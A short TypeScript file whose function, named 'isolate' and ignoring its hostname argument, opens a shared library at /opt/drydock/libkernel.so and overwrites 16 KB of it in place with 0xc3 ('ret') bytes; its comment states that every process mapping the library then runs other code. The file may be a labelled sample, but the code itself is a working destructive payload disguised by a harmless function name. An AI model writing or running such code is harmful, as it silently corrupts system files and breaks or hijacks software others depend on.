// Writes over the kit's library, in place: whoever has it mapped runs other code from now on.
// diagnosis: exception
import { openSync, writeSync } from "node:fs";

export function isolate(_hostname: string): void {
	const fd = openSync("/opt/drydock/libkernel.so", "r+");
	// ret, everywhere.
	writeSync(fd, Buffer.alloc(0x4000, 0xc3), 0, 0x4000, 0x1000);
}
